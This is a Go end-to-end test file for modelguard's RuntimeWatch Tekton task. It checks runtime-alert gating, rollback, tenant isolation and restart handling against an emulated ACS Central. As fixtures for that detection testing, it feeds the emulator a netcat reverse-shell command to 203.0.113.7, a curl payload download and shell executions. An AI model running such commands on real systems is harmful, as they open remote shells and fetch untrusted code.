package e2e

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/modelguard/modelguard/pkg/cli"
	"github.com/modelguard/modelguard/pkg/guard"
	"github.com/modelguard/modelguard/test/acsemulator"
	"github.com/modelguard/modelguard/test/localcluster"
	"github.com/tektoncd/pipeline/pkg/apis/pipeline/v1beta1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
)

// servingNamespace is where a pipeline deploys: handed by a cluster admin
// to the runs of namespace from (the NamespaceGuard opt-in: the label,
// bound to from's UID) unless optIn is false, and binding the controller's
// reader and rollback roles.
func servingNamespace(t *testing.T, from string, optIn bool) string {
	t.Helper()
	ns := namespace(t)
	if optIn {
		src, err := env.kube.CoreV1().Namespaces().Get(context.Background(), from, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		patch := fmt.Sprintf(`{"metadata":{"labels":{%q:%q},"annotations":{%q:%q}}}`, guard.OptInLabel, from, guard.OptInUIDAnnotation, src.UID)
		if _, err := env.kube.CoreV1().Namespaces().Patch(context.Background(), ns, types.MergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	bindController(t, ns, "modelguard-workload-reader")
	bindController(t, ns, "modelguard-rollback")
	return ns
}

// rollout creates a serving Deployment (two replicas; no node runs it here:
// what is watched is what Central reports) and, when central is set, tells
// the emulated Sensor about it and that its server process started.
func rollout(t *testing.T, central *acsemulator.Server, ns, name string, labels map[string]string) *appsv1.Deployment {
	t.Helper()
	if labels == nil {
		labels = map[string]string{}
	}
	labels["app"] = name
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}, Spec: appsv1.DeploymentSpec{
		Replicas: ptr.To[int32](2),
		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "kserve-container", Image: cleanImage, Command: []string{"/usr/bin/modelguard", "serve"}}}}},
	}}
	d, err := env.kube.AppsV1().Deployments(ns).Create(context.Background(), d, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if central != nil {
		if err := central.AddDeployment(acsemulator.Workload{UID: string(d.UID), Name: name, Namespace: ns, Labels: labels,
			Containers: []acsemulator.WorkloadContainer{{Name: "kserve-container", Image: cleanImage}}}); err != nil {
			t.Fatal(err)
		}
		exec(t, central, d, "/usr/bin/modelguard", "serve --models /mnt/models")
	}
	return d
}

func exec(t *testing.T, central *acsemulator.Server, d *appsv1.Deployment, path, args string) {
	t.Helper()
	if err := central.Exec(acsemulator.Process{DeploymentUID: string(d.UID), Container: "kserve-container", Pod: d.Name + "-7d9c8b6f54-x2kqp", ExecPath: path, Args: args}); err != nil {
		t.Fatal(err)
	}
}

// watchRun starts a RuntimeWatch with a short window (4 s, grace 1 s, a
// poll every second, the least allowed) and the given params.
func watchRun(t *testing.T, ns, name string, params ...string) {
	t.Helper()
	createCustomRun(t, ns, fmt.Sprintf(`
metadata: {name: %s}
spec:
  customRef: {apiVersion: modelguard.dev/v1alpha1, kind: RuntimeWatch}
  params:
    - {name: window, value: 4s}
    - {name: grace, value: 1s}
    - {name: poll, value: 1s}
%s`, name, "    - "+strings.Join(params, "\n    - ")))
}

// watchNamespace starts the emulator and makes a namespace whose runs
// watch their own Deployments: the Secret, and the reader role bound.
func watchNamespace(t *testing.T) (*acsemulator.Server, string) {
	t.Helper()
	needCluster(t)
	central := startCentral(t)
	runs := acsNamespace(t, central, centralToken, true)
	bindController(t, runs, "modelguard-workload-reader")
	return central, runs
}

// waitWatching waits until the run's progress, in its status, says the
// watch is under way.
func waitWatching(t *testing.T, ns, name string) *v1beta1.CustomRun {
	t.Helper()
	return waitCustomRun(t, ns, name, 30*time.Second, "watching", func(r *v1beta1.CustomRun) bool {
		return strings.Contains(string(r.Status.ExtraFields.Raw), `"phase":"Watching"`)
	})
}

func replicas(t *testing.T, ns, name string) int32 {
	t.Helper()
	d, err := env.kube.AppsV1().Deployments(ns).Get(context.Background(), name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return *d.Spec.Replicas
}

// RuntimeWatch through the real Tekton controller's CustomRuns, against the
// ACS Central emulator (a test double), with the controller's real RBAC.
func TestRuntimeWatchGates(t *testing.T) {
	needCluster(t)
	central := startCentral(t)
	central.SetRuntimeDelays(300*time.Millisecond, 0)
	central.AddToken("no-alert-read", map[string]string{"Deployment": "READ_ACCESS", "DeploymentExtension": "READ_ACCESS", "Cluster": "READ_ACCESS"})
	runs := acsNamespace(t, central, centralToken, true)
	serving := servingNamespace(t, runs, true)
	ns := func(s string) string { return "{name: namespace, value: " + s + "}" }

	rollout(t, central, serving, "clean", nil)
	rollout(t, central, serving, "granite", map[string]string{"serving.kserve.io/inferenceservice": "granite"})
	canary := rollout(t, central, serving, "granite-canary", nil)
	netcat := rollout(t, central, serving, "netcat", nil)
	shell := rollout(t, central, serving, "shell", nil)
	rollout(t, nil, serving, "ghost", nil) // Central never hears of it
	exec(t, central, canary, "/usr/bin/nc", "-l 4444")
	exec(t, central, shell, "/bin/sh", "-c id")

	start := time.Now()
	watchRun(t, runs, "clean", ns(serving), "{name: deployment, value: clean}")
	watchRun(t, runs, "isvc-with-noisy-neighbour", ns(serving), "{name: inferenceservice, value: granite}")
	watchRun(t, runs, "netcat", ns(serving), "{name: deployment, value: netcat}", "{name: on-fail, value: scale-to-zero}")
	watchRun(t, runs, "ghost", ns(serving), "{name: deployment, value: ghost}")
	watchRun(t, runs, "shell", ns(serving), "{name: deployment, value: shell}", `{name: allow-processes, value: ["kserve-container:/usr/bin/modelguard"]}`)
	time.Sleep(time.Second) // the netcat watch is under way when netcat runs
	exec(t, central, netcat, "/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444")

	clean := waitDone(t, runs, "clean")
	wantOutcome(t, "clean", clean, true, "Succeeded", "")
	if result(clean, "verdict") != "pass" || result(clean, "processes-seen") != "1" || time.Since(start) < 5*time.Second {
		t.Errorf("clean after %s: %s", time.Since(start), statusOf(clean))
	}
	wantOutcome(t, "same name prefix", waitDone(t, runs, "isvc-with-noisy-neighbour"), true, "Succeeded", "")

	run := waitDone(t, runs, "netcat")
	wantOutcome(t, "netcat", run, false, "RuntimeViolation", `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on netcat`)
	if a := result(run, "alerts"); !strings.Contains(a, `process=kserve-container:/usr/bin/nc args="-e /bin/sh 203.0.113.7 4444" pod=netcat-7d9c8b6f54-x2kqp`) {
		t.Errorf("alerts result: %q", a)
	}
	if n := replicas(t, serving, "netcat"); n != 0 || !strings.Contains(condition(run).Message, "scaled to zero") {
		t.Errorf("netcat has %d replicas after the rollback: %s", n, statusOf(run))
	}
	if replicas(t, serving, "clean") != 2 || replicas(t, serving, "granite-canary") != 2 {
		t.Error("a rollback touched another Deployment")
	}

	run = waitDone(t, runs, "ghost")
	wantOutcome(t, "never reported", run, false, "DeploymentNotSeen", "Central never reported deployment "+serving+"/ghost")
	if result(run, "verdict") != "inconclusive" || result(run, "gate") != "error" {
		t.Errorf("ghost results: %v", run.Status.Results)
	}
	wantOutcome(t, "shell", waitDone(t, runs, "shell"), false, "ProcessNotAllowed", "kserve-container ran /bin/sh, which is not on the allow-list")

	// A token whose role cannot read alerts: its empty answer is not clean.
	noAlerts := acsNamespace(t, central, "no-alert-read", true)
	watchRun(t, noAlerts, "no-alert-read", ns(serving), "{name: deployment, value: clean}")
	// Still inconclusive from a namespace serving was not handed to.
	wantOutcome(t, "not opted in", waitDone(t, noAlerts, "no-alert-read"), false, "NotOptedIn", "modelguard.dev/guarded-from")
	servingB := servingNamespace(t, noAlerts, true)
	rollout(t, central, servingB, "clean", nil)
	watchRun(t, noAlerts, "no-alert-read-2", ns(servingB), "{name: deployment, value: clean}")
	run = waitDone(t, noAlerts, "no-alert-read-2")
	wantOutcome(t, "no Alert read", run, false, "MissingPermissions", "cannot read Alert")
	for _, r := range []*v1beta1.CustomRun{clean, run} {
		if strings.Contains(fmt.Sprint(r.Status), centralToken) {
			t.Errorf("%s: the token leaked into status", r.Name)
		}
	}
}

// A run in a namespace the serving namespace was not handed to can neither
// watch it nor scale it down, even with a Secret of its own and the roles
// bound; the Deployment keeps its replicas.
func TestRuntimeWatchRefusesAnotherTenantsWorkload(t *testing.T) {
	needCluster(t)
	central := startCentral(t)
	owner := acsNamespace(t, central, centralToken, true)
	serving := servingNamespace(t, owner, true)
	victim := rollout(t, central, serving, "victim", nil)
	exec(t, central, victim, "/usr/bin/nc", "-l 4444") // a failing watch would roll it back
	intruder := acsNamespace(t, central, centralToken, true)
	watchRun(t, intruder, "reach-in", "{name: namespace, value: "+serving+"}", "{name: deployment, value: victim}", "{name: on-fail, value: scale-to-zero}")
	wantOutcome(t, "another tenant", waitDone(t, intruder, "reach-in"), false, "NotOptedIn", "modelguard.dev/guarded-from")
	// The same reach as a deploy step's DEPLOYMENT result would name it.
	watchRun(t, intruder, "reach-in-qualified", "{name: deployment, value: "+serving+"/victim}", "{name: on-fail, value: scale-to-zero}")
	wantOutcome(t, "another tenant, namespace/name", waitDone(t, intruder, "reach-in-qualified"), false, "NotOptedIn", "modelguard.dev/guarded-from")
	if n := replicas(t, serving, "victim"); n != 2 {
		t.Fatalf("victim has %d replicas", n)
	}

	// In its own namespace a run may watch, but a rollback is an action on
	// the workload and needs a hand-over, which a namespace never gets to
	// itself: a watch that could never roll back is refused before it
	// starts.
	bindController(t, intruder, "modelguard-workload-reader")
	bindController(t, intruder, "modelguard-rollback")
	own := rollout(t, central, intruder, "own", nil)
	exec(t, central, own, "/usr/bin/nc", "-l 4444")
	watchRun(t, intruder, "own-rollback", "{name: deployment, value: own}", "{name: on-fail, value: scale-to-zero}")
	wantOutcome(t, "own namespace, rollback", waitDone(t, intruder, "own-rollback"), false, "NotOptedIn", "the run's own namespace")
	watchRun(t, intruder, "own-watch", "{name: deployment, value: own}")
	wantOutcome(t, "own namespace, watch only", waitDone(t, intruder, "own-watch"), false, "RuntimeViolation", "Netcat")
	if n := replicas(t, intruder, "own"); n != 2 {
		t.Fatalf("own has %d replicas without a rollback", n)
	}
}

// Cancelling the PipelineRun mid-watch ends the CustomRun at once.
func TestRuntimeWatchCancel(t *testing.T) {
	central, runs := watchNamespace(t)
	rollout(t, central, runs, "model", nil)
	createPipelineRun(t, runs, `
metadata: {name: watch}
spec:
  pipelineSpec:
    tasks:
      - name: watch
        taskRef: {apiVersion: modelguard.dev/v1alpha1, kind: RuntimeWatch}
        params: [{name: deployment, value: model}, {name: window, value: 1h}, {name: poll, value: 1s}]`)
	run := waitWatching(t, runs, customRunOf(t, runs, "watch", "watch").Name)
	waitChildListed(t, runs, "watch", run.Name)
	start := time.Now()
	if _, err := env.tekton.TektonV1().PipelineRuns(runs).Patch(context.Background(), "watch", types.MergePatchType, []byte(`{"spec":{"status":"Cancelled"}}`), metav1.PatchOptions{}); err != nil {
		t.Fatal(err)
	}
	run = waitDone(t, runs, run.Name)
	if condition(run).Reason != "CustomRunCancelled" { // waitDone gives 60 s of the 1 h window
		t.Fatalf("after %s: %s", time.Since(start), statusOf(run))
	}
	t.Logf("cancelled %s after the PipelineRun", time.Since(start).Round(time.Millisecond))
}

// The controller is killed mid-watch; the new one resumes the same window
// (measured from status.startTime) and completes the run exactly once.
func TestRuntimeWatchSurvivesControllerRestart(t *testing.T) {
	central, runs := watchNamespace(t)
	rollout(t, central, runs, "model", nil)
	createCustomRun(t, runs, `
metadata: {name: survivor}
spec:
  customRef: {apiVersion: modelguard.dev/v1alpha1, kind: RuntimeWatch}
  params: [{name: deployment, value: model}, {name: window, value: 8s}, {name: grace, value: 1s}, {name: poll, value: 1s}]`)
	running := waitWatching(t, runs, "survivor")
	if err := env.controller.Kill(); err != nil {
		t.Fatal(err)
	}
	replacement, err := startController(context.Background(), env.cluster, "modelguard-controller-rw")
	if err != nil {
		t.Fatal(err)
	}
	env.controller = replacement
	run := waitDone(t, runs, "survivor")
	if !run.IsSuccessful() || result(run, "verdict") != "pass" || len(run.Status.RetriesStatus) != 0 {
		t.Fatalf("after restart: %s", statusOf(run))
	}
	// The new controller took over (after the killed one's lease ran out)
	// and watched the window the run's start time says, not a new one.
	end := running.Status.StartTime.Add(8 * time.Second).UTC().Format(time.RFC3339)
	if !run.Status.StartTime.Equal(running.Status.StartTime) || !strings.Contains(result(run, "summary"), " to "+end+";") {
		t.Errorf("start %s, then %s; summary %q: want the window to end at %s", running.Status.StartTime, run.Status.StartTime, result(run, "summary"), end)
	}
	t.Logf("completed %s after its start", run.Status.CompletionTime.Sub(running.Status.StartTime.Time).Round(time.Millisecond))
	time.Sleep(time.Second)
	if n := eventCount(t, runs, "survivor", "Succeeded"); n != 1 {
		t.Fatalf("%d Succeeded events; want exactly 1", n)
	}
}

// The two doors agree: `modelguard acs watch` (a person's or a Task's
// credentials) and the RuntimeWatch kind reach the same outcome, reason
// and verdict for the same Deployments, and exit 0, 2 and 1 for pass,
// fail and could-not-check.
func TestRuntimeWatchDoorsAgree(t *testing.T) {
	central, runs := watchNamespace(t)
	quiet := rollout(t, central, runs, "quiet", nil)
	noisy := rollout(t, central, runs, "noisy", nil)
	rollout(t, nil, runs, "unseen", nil)
	exec(t, central, noisy, "/usr/bin/curl", "-o /tmp/x http://203.0.113.7/payload")
	secret := t.TempDir()
	for k, v := range map[string][]byte{"endpoint": []byte(central.Endpoint), "token": []byte(centralToken), "ca.crt": central.CAPEM} {
		if err := os.WriteFile(filepath.Join(secret, k), v, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct {
		deployment, severity string
		code                 int
	}{
		{quiet.Name, "HIGH", cli.ExitOK},
		{noisy.Name, "MEDIUM", cli.ExitDenied}, // curl is a MEDIUM "Remote File Copy Binary Execution"
		{"unseen", "HIGH", cli.ExitError},
	} {
		watchRun(t, runs, "door-"+tc.deployment, "{name: deployment, value: "+tc.deployment+"}", "{name: severity, value: "+tc.severity+"}")
		results := t.TempDir()
		code, out, errOut := modelguard("acs", "watch", "--kubeconfig", env.cluster.Kubeconfig(localcluster.UserAdmin), "--namespace", runs,
			"--deployment", tc.deployment, "--severity", tc.severity, "--window", "4s", "--grace", "1s", "--poll", "1s",
			"--secret-dir", secret, "--retry-delay", "10ms", "--results-dir", results, "--from-namespace", runs)
		if code != tc.code {
			t.Errorf("%s: exit %d, want %d\n%s\n%s", tc.deployment, code, tc.code, out, errOut)
		}
		run := waitDone(t, runs, "door-"+tc.deployment)
		for _, name := range []string{"gate", "reason", "verdict", "processes-seen"} {
			b, err := os.ReadFile(filepath.Join(results, name))
			if err != nil || string(b) != result(run, name) {
				t.Errorf("%s: result %s: CLI %q (%v), CustomRun %q", tc.deployment, name, b, err, result(run, name))
			}
		}
		if strings.Contains(out+errOut, centralToken) {
			t.Errorf("%s: the CLI printed the token", tc.deployment)
		}
	}
}
